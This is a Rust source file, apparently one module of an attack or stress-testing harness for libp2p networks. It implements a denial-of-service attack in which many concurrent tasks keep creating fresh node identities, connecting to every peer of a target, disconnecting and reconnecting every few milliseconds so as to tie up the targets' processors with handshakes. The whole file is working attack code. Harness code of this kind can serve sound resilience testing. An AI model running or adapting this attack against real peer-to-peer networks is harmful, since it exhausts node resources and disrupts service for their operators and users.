//! Ids that come, greet, and leave at once, and come again under another name: each greeting takes a processor for a while.

use super::{Attack, Target, bridge, swarm_of};
use futures::StreamExt as _;
use libp2p::{identity::Keypair, ping, swarm::SwarmEvent};
use std::{
    net::Ipv4Addr,
    sync::{Arc, atomic::AtomicU64, atomic::Ordering},
    time::Duration,
};

/// The pause of one of them after it was let in or refused.
const PAUSE: Duration = Duration::from_millis(5);

/// So many at a time from each of some addresses of this machine to every peer of the target. Counts the connections that
/// were let in.
pub fn begin(target: Target, sources: Vec<Ipv4Addr>, each: usize) -> Attack {
    Attack::begin(move |let_in| async move {
        for source in sources {
            let target = bridge::from(&target, source).await;
            for _ in 0..each {
                tokio::spawn(come_and_go(target.clone(), let_in.clone()));
            }
        }
    })
}

async fn come_and_go(target: Target, let_in: Arc<AtomicU64>) {
    loop {
        let mut swarm = swarm_of(&Keypair::generate_ed25519(), |_| ping::Behaviour::default());
        let dials = target.peers.iter().filter(|(_, address)| swarm.dial(address.clone()).is_ok()).count();
        for _ in 0..dials {
            loop {
                match swarm.select_next_some().await {
                    SwarmEvent::ConnectionEstablished { .. } => {
                        let_in.fetch_add(1, Ordering::Relaxed);
                        break;
                    }
                    SwarmEvent::OutgoingConnectionError { .. } => break,
                    _ => {}
                }
            }
        }
        drop(swarm);
        tokio::time::sleep(PAUSE).await;
    }
}
